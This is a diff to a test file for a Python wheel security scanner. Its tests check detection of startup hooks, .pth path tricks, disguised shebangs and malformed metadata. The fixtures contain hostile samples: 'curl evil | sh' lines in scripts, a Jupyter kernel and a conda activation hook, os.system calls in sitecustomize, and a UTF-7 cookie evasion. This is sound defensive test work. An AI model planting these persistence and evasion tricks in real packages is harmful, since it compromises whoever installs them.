@@ -252,7 +252,9 @@ def test_data_scripts(tmp_path: Path) -> None:
     assert {e for e in evidence(s) if e[0] != "subprocess"} == {
         ("startup-hooks", "foo-1.0.data/scripts/sudo", 0, "startup",
          "script 'sudo' shadows the sudo command"),
-        ("unanalyzed", "foo-1.0.data/scripts/sudo", 0, "runtime", "script sudo is not Python"),
+        ("native", "foo-1.0.data/scripts/sudo", 0, "runtime",
+         "executable script foo-1.0.data/scripts/sudo runs under '/bin/sh', not Python: not "
+         "analysed"),
         ("startup-hooks", "foo-1.0.data/data/bin/git", 0, "startup",
          "script 'git' shadows the git command"),
     }
@@ -313,12 +315,13 @@ def test_bytecode_outside_site_packages_is_not_imported(tmp_path: Path) -> None:
     assert s.findings == ()
 
 
-def test_non_code_locations_are_not_scanned(tmp_path: Path) -> None:
+def test_data_scheme_python_is_scanned_text_and_headers_are_not(tmp_path: Path) -> None:
+    # nothing imports <prefix>/share/foo/hook.py, but whatever runs it runs this code
     s = scan(tmp_path, {"foo/__init__.py": "",
                         "foo-1.0.data/data/share/foo/hook.py": "import os\nos.system('id')\n",
                         "foo-1.0.data/headers/foo.h": "int x;",
                         "foo/README.txt": "import os; os.system('id')"})
-    assert s.findings == ()
+    assert where(s) == {("subprocess", "foo-1.0.data/data/share/foo/hook.py", 2, "runtime")}
 
 
 def test_unknown_scheme(tmp_path: Path) -> None:
@@ -468,3 +471,338 @@ def test_own_packages(paths: list[str], dist: str, expected: set[str]) -> None:
     from gate.scan.wheel import own_packages
 
     assert own_packages(paths, normalize(dist)) == expected
+
+
+# ---------------------------------------------------------------- import roots a .pth adds
+RUNS = "runs at every interpreter start (on sys.path through foo.pth:1)"
+
+
+def test_sitecustomize_in_a_directory_a_pth_path_line_adds(tmp_path: Path) -> None:
+    # site.py appends foo/hooks to sys.path, THEN imports sitecustomize: it runs at startup
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "foo/hooks\n",
+                        "foo/hooks/sitecustomize.py": "import os\nos.system('id')\n",
+                        "foo/hooks/json/__init__.py": "", "foo/hooks/foo_impl.py": ""})
+    assert evidence(s) == {
+        ("startup-hooks", "foo/hooks/sitecustomize.py", 0, "startup", f"sitecustomize {RUNS}"),
+        ("subprocess", "foo/hooks/sitecustomize.py", 2, "startup", "os.system"),
+        ("subprocess", "foo/hooks/sitecustomize.py", 2, "import", "os.system"),
+        ("startup-hooks", "foo/hooks/json/__init__.py", 0, "startup",
+         "shadows stdlib module 'json' (on sys.path through foo.pth:1)"),
+    }
+
+
+def test_usercustomize_package_in_a_pth_directory(tmp_path: Path) -> None:
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "./foo/./hooks/\n",
+                        "foo/hooks/usercustomize/__init__.pyc": HASH_PYC})
+    assert evidence(s) == {
+        ("startup-hooks", "foo/hooks/usercustomize/__init__.pyc", 0, "startup",
+         f"usercustomize {RUNS}"),
+        ("unanalyzed", "foo/hooks/usercustomize/__init__.pyc", 0, "startup",
+         f"{BYTECODE_DETAIL}: foo/hooks/usercustomize/__init__.pyc is imported without any "
+         f"source"),
+        ("unanalyzed", "foo/hooks/usercustomize/__init__.pyc", 0, "import",
+         f"{BYTECODE_DETAIL}: foo/hooks/usercustomize/__init__.pyc is imported without any "
+         f"source"),
+    }
+
+
+def test_sitecustomize_in_an_archive_a_pth_path_line_adds(tmp_path: Path) -> None:
+    hooks = _zip_bytes({"usercustomize.py": b"import os\nos.system('id')\n",
+                        "requests/__init__.py": b"", "x.pyc": b"\0" * 16})
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo/hooks.zip": hooks,
+                        "foo.pth": "foo/hooks.zip\n"})
+    assert evidence(s) == {
+        ("startup-hooks", "foo/hooks.zip!usercustomize.py", 0, "startup",
+         f"usercustomize {RUNS}"),
+        ("subprocess", "foo/hooks.zip!usercustomize.py", 2, "startup", "os.system"),
+        ("subprocess", "foo/hooks.zip!usercustomize.py", 2, "import", "os.system"),
+        ("startup-hooks", "foo/hooks.zip!requests/__init__.py", 0, "startup",
+         "installs into 'requests', the package of requests (on sys.path through foo.pth:1)"),
+        ("unanalyzed", "foo/hooks.zip!x.pyc", 0, "import",
+         f"{BYTECODE_DETAIL}: foo/hooks.zip!x.pyc is imported from an archive on sys.path"),
+    }
+
+
+def test_pth_path_line_to_data_scheme_files(tmp_path: Path) -> None:
+    # <site-packages>/../../../share/evil is <prefix>/share/evil: the data scheme's code is
+    # on sys.path, imported (and sitecustomize run) like site-packages code
+    evil = "foo-1.0.data/data/share/evil"
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../share/evil\n",
+                        f"{evil}/sitecustomize.py": "import os\nos.system('id')\n",
+                        f"{evil}/helper.py": "import socket\nsocket.socket()\n",
+                        f"{evil}/mod.pyc": TIMESTAMP_PYC})
+    assert evidence(s) == {
+        ("unanalyzed", "foo.pth", 1, "startup", "adds ../../../share/evil to sys.path at every "
+                                                "start"),
+        ("startup-hooks", f"{evil}/sitecustomize.py", 0, "startup", f"sitecustomize {RUNS}"),
+        ("subprocess", f"{evil}/sitecustomize.py", 2, "startup", "os.system"),
+        ("subprocess", f"{evil}/sitecustomize.py", 2, "import", "os.system"),
+        ("network", f"{evil}/helper.py", 2, "import", "socket.socket"),
+        ("unanalyzed", f"{evil}/mod.pyc", 0, "import",
+         f"{BYTECODE_DETAIL}: {evil}/mod.pyc is imported without any source"),
+    }
+
+
+def test_pth_path_line_to_the_scripts_directory(tmp_path: Path) -> None:
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../bin\n",
+                        "foo-1.0.data/scripts/sitecustomize.py": "#!python\nimport os\n"
+                                                                  "os.system('id')\n"})
+    assert ("startup-hooks", "foo-1.0.data/scripts/sitecustomize.py", 0, "startup",
+            f"sitecustomize {RUNS}") in evidence(s)
+    assert ("subprocess", "foo-1.0.data/scripts/sitecustomize.py", 3, "startup") in where(s)
+
+
+def test_pth_path_line_to_data_scheme_metadata(tmp_path: Path) -> None:
+    with pytest.raises(ScanError) as exc:
+        scan(tmp_path, {"foo/__init__.py": "", "foo.pth": "../../../share/x\n",
+                        "foo-1.0.data/data/share/x/bar-1.0.dist-info/METADATA": ""})
+    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: foo.pth:1 adds <prefix>/share/x to "
+                              "sys.path, where bar-1.0.dist-info is distribution metadata "
+                              "other than the wheel's own")
+
+
+# ---------------------------------------------------------------- scripts as the kernel runs them
+def native_script(path: str, runs: str) -> tuple[str, str, int, str, str]:
+    return ("native", path, 0, "runtime",
+            f"executable script {path} runs under {runs}, not Python: not analysed")
+
+
+SYSTEM = "import os\nos.system('id')\n"
+S = "foo-1.0.data/scripts"
+
+
+@pytest.mark.parametrize(("script", "expected"), [
+    # pip and uv rewrite '#!python...' to the environment's interpreter
+    ("#!python\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#!pythonw -x\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#!python\r\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    # a plain Python interpreter, no argument: the kernel runs the file as Python
+    ("#!/usr/bin/env python3\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#! /usr/bin/python3.12\n" + SYSTEM, {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#!/usr/local/bin/python\n" + SYSTEM,
+     {("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    # anything else runs as the #! line says: code outside Python (its Python text, when it
+    # names Python, is scanned too)
+    ("#!/bin/sh\ncurl evil | sh\n", {native_script(f"{S}/t", "'/bin/sh'")}),
+    ("#!/usr/bin/env -S sh -c '. \"$1\"' python\n''':'\ntouch x\nexit 0\n'''\n",
+     {native_script(f"{S}/t", "'/usr/bin/env -S sh -c '. \"$1\"' python'")}),
+    ("#!/usr/bin/python3 -cimport os;os.system('id')\nprint(1)\n",
+     {native_script(f"{S}/t", "'/usr/bin/python3 -cimport os;os.system('id')'")}),
+    ("#!/usr/bin/env python3 -u\n" + SYSTEM,
+     {native_script(f"{S}/t", "'/usr/bin/env python3 -u'"),
+      ("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#!/opt/evil/python\n" + SYSTEM,
+     {native_script(f"{S}/t", "'/opt/evil/python'"),
+      ("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("#!/usr/bin/perl\nsystem('id');\n", {native_script(f"{S}/t", "'/usr/bin/perl'")}),
+    ("\ufeff#!python\n" + SYSTEM, {native_script(f"{S}/t", "a shell (no #! line)"),
+                                  ("subprocess", f"{S}/t", 3, "import", "os.system")}),
+    ("touch x\n", {native_script(f"{S}/t", "a shell (no #! line)")}),
+])
+def test_scripts_run_as_their_first_line_says(tmp_path: Path, script: str,
+                                              expected: set[tuple[str, ...]]) -> None:
+    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": script})
+    assert evidence(s) == expected
+
+
+def test_data_scheme_scripts_are_not_rewritten(tmp_path: Path) -> None:
+    # pip and uv rewrite '#!python' in the scripts scheme only: in data/bin the kernel
+    # looks for ./python in the current directory
+    s = scan(tmp_path, {"foo/__init__.py": "", "foo-1.0.data/data/bin/t": "#!python\n" + SYSTEM})
+    assert evidence(s) == {native_script("foo-1.0.data/data/bin/t", "'python'"),
+                           ("subprocess", "foo-1.0.data/data/bin/t", 3, "import", "os.system")}
+
+
+@pytest.mark.parametrize("first", [b"#!python\n", b"#!/usr/bin/env python3\n",
+                                   b"#!/usr/bin/env python3 -u\n"])
+def test_zipapp_script_is_refused(tmp_path: Path, first: bytes) -> None:
+    # Python runs __main__.py from a zip behind the #! line (zipapp, pex), not the text
+    app = first + _zip_bytes({"__main__.py": b"import os\nos.system('id')\n"})
+    with pytest.raises(ScanError) as exc:
+        scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": app})
+    assert str(exc.value) == (f"foo-1.0-py3-none-any.whl: {S}/t is a zip archive behind its "
+                              f"#! line (Python runs the __main__.py inside it, not the text "
+                              f"the scan reads)")
+
+
+def test_script_named_py_without_a_first_line_is_a_shell_script(tmp_path: Path) -> None:
+    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t.py": SYSTEM})
+    assert evidence(s) == {native_script(f"{S}/t.py", "a shell (no #! line)"),
+                           ("subprocess", f"{S}/t.py", 2, "import", "os.system")}
+
+
+def test_rewritten_script_is_scanned_as_installed(tmp_path: Path) -> None:
+    # pip and uv replace line 1, and its coding cookie with it: the installed script is
+    # decoded as UTF-7 (line 2's cookie), where '+AAo-' is a newline
+    script = ("#!python # -*- coding: latin-1 -*-\n# -*- coding: utf-7 -*-\n"
+              "#+AAo-import os+ADs-os.system(+ACc-id+ACc-)\n")
+    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": script})
+    assert evidence(s) == {("subprocess", f"{S}/t", 4, "import", "os.system")}
+
+
+def test_carriage_return_inside_the_rewritten_line(tmp_path: Path) -> None:
+    with pytest.raises(ScanError) as exc:
+        scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": "#!python\rimport os\nx = 1\n"})
+    assert str(exc.value) == (f"foo-1.0-py3-none-any.whl: {S}/t has a carriage return inside "
+                              f"its #!python line (pip rewrites the line up to its \\n, uv up "
+                              f"to the \\r: they install different scripts)")
+
+
+def test_scripts_are_modules_of_every_script_run_from_their_directory(tmp_path: Path) -> None:
+    # pip's launcher starts 'import re': a re.py beside it is imported instead of the stdlib
+    where_ = "<scripts> is sys.path[0] of every script run from it"
+    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/re.py": "#!python\n",
+                        f"{S}/requests.py": "#!/usr/bin/env python3\n",
+                        f"{S}/tool.pyc": TIMESTAMP_PYC,
+                        "foo-1.0.data/data/bin/json": "#!/usr/bin/env python3\n",
+                        f"{S}/foo-tool.py": "#!python\n"})
+    assert evidence(s) == {
+        ("startup-hooks", f"{S}/re.py", 0, "startup", f"shadows stdlib module 're' ({where_})"),
+        ("startup-hooks", f"{S}/requests.py", 0, "startup",
+         f"installs into 'requests', the package of requests ({where_})"),
+        ("unanalyzed", f"{S}/tool.pyc", 0, "import",
+         f"{BYTECODE_DETAIL}: {S}/tool.pyc is imported without any source ({where_})"),
+    }
+
+
+# ---------------------------------------------------------------- entry points
+def test_entry_points_pip_and_uv_read_otherwise_are_refused(tmp_path: Path) -> None:
+    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""},
+                      entry_points={"console_scripts": {"foo": "foo:main"}})
+    with zipfile.ZipFile(whl) as zf:
+        members = {i.filename: zf.read(i) for i in zf.infolist()}
+    members["foo-1.0.dist-info/entry_points.txt"] = (
+        b"[console_scripts]\nfoo = foo:main\n    activate = foo:main\n")
+    with zipfile.ZipFile(whl, "w") as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    with pytest.raises(ScanError) as exc:
+        scan_artifact(whl)
+    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: entry_points.txt line 3 is indented "
+                              "(configparser continues the value before with it, pip and uv "
+                              "read an entry point)")
+
+
+# ---------------------------------------------------------------- RECORD
+def test_record_listing_a_file_the_wheel_does_not_hold(tmp_path: Path) -> None:
+    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""})
+    with zipfile.ZipFile(whl) as zf:
+        members = {i.filename: zf.read(i) for i in zf.infolist()}
+    members["foo-1.0.dist-info/RECORD"] += b"victim/__init__.py,,\n"
+    with zipfile.ZipFile(whl, "w") as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    with pytest.raises(ScanError) as exc:
+        scan_artifact(whl)
+    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: foo-1.0.dist-info/RECORD lists "
+                              "'victim/__init__.py', which the wheel does not hold (pip would "
+                              "record it as this distribution's file)")
+
+
+# ---------------------------------------------------------------- what other programs start
+D = "foo-1.0.data/data"
+
+
+def test_ipython_and_jupyter_configuration_are_startup_hooks(tmp_path: Path) -> None:
+    s = scan(tmp_path, {
+        "foo/__init__.py": "",
+        f"{D}/etc/jupyter/jupyter_server_config.d/foo.json":
+            '{"ServerApp": {"jpserver_extensions": {"foo": true, "off": false}}}',
+        f"{D}/etc/jupyter/nbconfig/notebook.d/foo.json": '{"load_extensions": {"foo/main": 1}}',
+        f"{D}/etc/jupyter/jupyter_notebook_config.py": SYSTEM,
+        f"{D}/etc/jupyter/README.md": "import os",
+        f"{D}/etc/ipython/ipython_config.json":
+            '{"InteractiveShellApp": {"exec_lines": ["import os", "os.system(1)"], '
+            '"extensions": ["foo.ext"]}}',
+        f"{D}/etc/ipython/profile_x/ipython_config.py": "c = 1\n",
+    })
+    assert evidence(s) == {
+        ("startup-hooks", f"{D}/etc/jupyter/jupyter_server_config.d/foo.json", 0, "startup",
+         "Jupyter reads <prefix>/etc/jupyter/jupyter_server_config.d/foo.json at every start: "
+         "loads foo"),
+        ("startup-hooks", f"{D}/etc/jupyter/nbconfig/notebook.d/foo.json", 0, "startup",
+         "Jupyter reads <prefix>/etc/jupyter/nbconfig/notebook.d/foo.json at every start: "
+         "loads foo/main"),
+        ("startup-hooks", f"{D}/etc/jupyter/jupyter_notebook_config.py", 0, "startup",
+         "Jupyter runs <prefix>/etc/jupyter/jupyter_notebook_config.py at every start"),
+        ("subprocess", f"{D}/etc/jupyter/jupyter_notebook_config.py", 2, "startup",
+         "os.system"),
+        ("startup-hooks", f"{D}/etc/ipython/ipython_config.json", 0, "startup",
+         "IPython reads <prefix>/etc/ipython/ipython_config.json at every start: loads "
+         "foo.ext"),
+        ("subprocess", f"{D}/etc/ipython/ipython_config.json", 2, "startup", "os.system"),
+        ("startup-hooks", f"{D}/etc/ipython/profile_x/ipython_config.py", 0, "startup",
+         "IPython runs <prefix>/etc/ipython/profile_x/ipython_config.py at every start"),
+    }
+
+
+def test_jupyter_kernels_and_lab_extensions_are_startup_hooks(tmp_path: Path) -> None:
+    kernels, lab = f"{D}/share/jupyter/kernels", f"{D}/share/jupyter/labextensions"
+    s = scan(tmp_path, {
+        "foo/__init__.py": "",
+        f"{kernels}/python3/kernel.json": '{"argv": ["sh", "-c", "curl evil | sh"]}',
+        f"{kernels}/python3/kernel.js": "fetch('x')",
+        f"{kernels}/python3/logo-64x64.png": b"\x89PNG",
+        f"{kernels}/other/kernel.json": "not json",
+        f"{lab}/@foo/bar/package.json": "{}", f"{lab}/baz/package.json": "{}",
+        f"{lab}/baz/static/remoteEntry.js": "x",
+        f"{D}/share/jupyter/nbextensions/foo/main.js": "x",  # loaded when nbconfig says so
+    })
+    assert evidence(s) == {
+        ("startup-hooks", f"{kernels}/python3/kernel.json", 0, "startup",
+         "Jupyter kernel 'python3' runs [\"sh\", \"-c\", \"curl evil | sh\"] when it starts"),
+        ("startup-hooks", f"{kernels}/python3/kernel.js", 0, "startup",
+         "the notebook runs kernel.js of Jupyter kernel 'python3' in the browser"),
+        ("startup-hooks", f"{kernels}/other/kernel.json", 0, "startup",
+         "Jupyter kernel 'other' runs a command it does not say when it starts"),
+        ("startup-hooks", f"{lab}/@foo/bar/package.json", 0, "startup",
+         "JupyterLab loads prebuilt extension '@foo/bar' (code in the browser) at every start"),
+        ("startup-hooks", f"{lab}/baz/package.json", 0, "startup",
+         "JupyterLab loads prebuilt extension 'baz' (code in the browser) at every start"),
+    }
+
+
+def test_conda_activation_scripts_are_startup_hooks(tmp_path: Path) -> None:
+    path = f"{D}/etc/conda/activate.d/foo.sh"
+    s = scan(tmp_path, {"foo/__init__.py": "", path: "curl evil | sh\n"})
+    assert evidence(s) == {
+        ("startup-hooks", path, 0, "startup", "conda runs <prefix>/etc/conda/activate.d/foo.sh "
+                                              "at every (de)activation of the environment"),
+        ("native", path, 0, "startup", f"executable script {path} runs under the shell that "
+                                       f"activates a conda environment, not Python: not "
+                                       f"analysed"),
+    }
+
+
+@pytest.mark.parametrize(("first", "native_too"), [
+    (b"#!/bin/sh\n", True), (b"#!python\n", False), (b"#!/usr/bin/env python3\n", False)])
+def test_script_too_large_to_read(tmp_path: Path, first: bytes, native_too: bool) -> None:
+    from gate.archive import Limits, read_archive
+    from gate.model import normalize
+    from gate.scan.wheel import scan_wheel
+
+    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": "",
+                                                f"{S}/t": first + b"#" * 4000 + b"\n"})
+    with read_archive(whl, limits=Limits(max_read=2000)) as ar:
+        found = {(str(f.capability), f.phase.value, f.detail)
+                 for f in scan_wheel(ar, name=normalize("foo"), version="1.0")}
+    unread = ("unanalyzed", "import", f"{S}/t is too large to analyse ({len(first) + 4001} "
+                                      f"bytes)")
+    runs = ("native", "runtime", f"executable script {S}/t runs under what its first line "
+                                 f"names (too large to read), not Python: not analysed")
+    assert found == ({unread, runs} if native_too else {unread})
+
+
+def test_entry_points_not_utf8_are_refused_not_a_crash(tmp_path: Path) -> None:
+    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""},
+                      entry_points={"console_scripts": {"foo": "foo:main"}})
+    with zipfile.ZipFile(whl) as zf:
+        members = {i.filename: zf.read(i) for i in zf.infolist()}
+    members["foo-1.0.dist-info/entry_points.txt"] = b"[console_scripts]\nfoo = foo:m\xff\n"
+    with zipfile.ZipFile(whl, "w") as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    with pytest.raises(ScanError) as exc:
+        scan_artifact(whl)
+    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: entry_points.txt is not UTF-8 (pip "
+                              "and uv cannot read it)")
